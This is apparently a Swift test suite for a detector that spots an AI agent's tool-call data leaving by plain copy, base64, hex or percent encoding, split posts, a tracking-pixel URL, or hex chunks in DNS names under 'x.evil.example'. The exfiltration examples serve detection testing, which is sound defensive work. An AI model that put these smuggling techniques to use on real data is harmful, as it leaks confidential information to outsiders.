import Detection
import Foundation
import Testing
import TrafficForge
import TrafficModel

@Suite struct ContentReappearanceDetectorTests {
  static let secretText = """
    Payroll of October, confidential. Alice Archer 4711 EUR, Bob Baker 5822 EUR, Carol Carter 6933 EUR, Dan Dyer 7044 EUR. \
    Do not send this outside of the finance team, and keep it away from the wiki and from chat rooms.
    """
  static let openText = """
    The white heron stands in shallow water for hours and waits for fish to come near. It nests in colonies in trees close to \
    large lakes with extensive wetlands, preferably at heights of ten to forty feet.
    """

  func read(_ text: String) -> ToolCall {
    Example.call(
      "read_file", at: 0, arguments: #"{"path":"notes.txt"}"#,
      result: "{\"content\":[{\"type\":\"text\",\"text\":\"\(text)\"}]}",
      flow: Example.flow(server: "198.51.100.7"))
  }

  func send(_ text: String, to server: String = "203.0.113.9", at seconds: Double = 10) -> ToolCall {
    Example.call("post", at: seconds, arguments: "{\"body\":\"\(text)\"}", flow: Example.flow(server: server))
  }

  func ids(_ events: [TrafficEvent]) -> [String] {
    claims(ContentReappearanceDetector(), events).map { "\($0.detector.rawValue) \($0.severity.name)" }
  }

  @Test func sensitiveTextGoesToAnotherServer() throws {
    let events = [read(Self.secretText), send("fyi: " + Self.secretText.prefix(120))].map { TrafficEvent.toolCall($0) }
    #expect(ids(events) == ["EXF-01 high"])
  }

  @Test func textThatAnybodyMayReadIsCopiedAllTheTime() {
    #expect(ids([.toolCall(read(Self.openText)), .toolCall(send(Self.openText))]).isEmpty)
  }

  @Test func whatGoesBackToItsOwnServerIsNotLeaving() {
    #expect(ids([.toolCall(read(Self.secretText)), .toolCall(send(Self.secretText, to: "198.51.100.7"))]).isEmpty)
  }

  @Test func fewerThan47SharedCharactersProveNothing() {
    let short = String(Self.secretText.prefix(31))
    #expect(ids([.toolCall(read(Self.secretText)), .toolCall(send(short))]).isEmpty)
  }

  static let encodings: [(String, @Sendable ([UInt8]) -> String)] = [
    ("base64", { Data($0).base64EncodedString() }),
    ("base64url", { Data($0).base64EncodedString().replacingOccurrences(of: "+", with: "-") }),
    ("base64 within other text", { Data(Array("from:x;data:".utf8) + $0).base64EncodedString() }),
    ("base64 without its beginning", { String(Data($0).base64EncodedString().dropFirst(3)) }),
    ("hexadecimal", { $0.map { String(format: "%02x", $0) }.joined() }),
    ("percent", { $0.map { String(format: "%%%02X", $0) }.joined() }),
  ]

  @Test("encoded content is found whatever it holds", arguments: 0..<6)
  func encoded(index: Int) {
    let (name, encode) = Self.encodings[index]
    let body = encode(Array(Self.openText.utf8))
    #expect(ids([.toolCall(read(Self.openText)), .toolCall(send(body))]) == ["EXF-02 high"], "\(name)")
  }

  @Test func splitOverCallsItIsFoundInEach() {
    let body = Data(Self.openText.utf8).base64EncodedString()
    let half = body.index(body.startIndex, offsetBy: body.count / 2)
    let parts = [send(String(body[..<half])), send(String(body[half...]), at: 20)]
    #expect(ids(([read(Self.openText)] + parts).map { .toolCall($0) }).count == 2)
  }

  @Test func inAURLToAThirdParty() {
    var exchange = HTTPExchange(
      flow: Example.flow(server: "203.0.113.9", port: 80), streamID: 1, version: .http11, isEncrypted: false)
    exchange.request.extent = Example.extent(10)
    let payload = Data(Self.openText.utf8).base64EncodedString()
    exchange.target = UntrustedText("/pixel.gif?d=\(payload)")
    #expect(ids([.toolCall(read(Self.openText)), .http(exchange)]) == ["EXF-02 high"])
  }

  @Test("in names, by the client or by the server's own machine", arguments: ["192.0.2.10", "198.51.100.7"])
  func inNames(sender: String) {
    let hex = Self.openText.utf8.map { String(format: "%02x", $0) }.joined()
    var events: [TrafficEvent] = [.toolCall(read(Self.openText))]
    for (number, start) in stride(from: 0, to: hex.count - 60, by: 60).enumerated() {
      let label = hex.dropFirst(start).prefix(60)
      let flow = Example.flow(client: sender, server: "198.51.100.53", port: 53, transport: .udp)
      events.append(
        .dns(
          DNSExchange(
            flow: flow, extent: Example.extent(20 + Double(number)), messageID: UInt16(number),
            name: UntrustedText("\(number).\(label).x.evil.example"), type: .txt, classNumber: 1, status: .answered,
            isMulticast: false)))
    }
    #expect(Set(ids(events)) == ["EXF-02 high"])
  }
}

@Suite struct FingerprintsTests {
  @Test("every shared run of 47 bytes leaves a mark in common", arguments: UInt64(1)...50)
  func guarantee(seed: UInt64) {
    var generator = SeededGenerator(seed: seed)
    func random(_ count: Int) -> [UInt8] { (0..<count).map { _ in UInt8.random(in: 97...122, using: &generator) } }
    let shared = random(47)
    let a = Fingerprints.of(random(Int(seed)) + shared + random(90), key: 7)
    let b = Fingerprints.of(random(200 - Int(seed)) + shared, key: 7)
    #expect(!Set(a).isDisjoint(with: b))
  }

  @Test func otherKeysGiveOtherMarks() {
    let text = Array("The quick brown fox jumps over the lazy dog, twice a day.".utf8)
    #expect(Set(Fingerprints.of(text, key: 1)).isDisjoint(with: Fingerprints.of(text, key: 2)))
  }

  @Test("too short for a mark", arguments: [0, 1, 31])
  func short(count: Int) { #expect(Fingerprints.of(Array(repeating: 97, count: count), key: 0).isEmpty) }
}
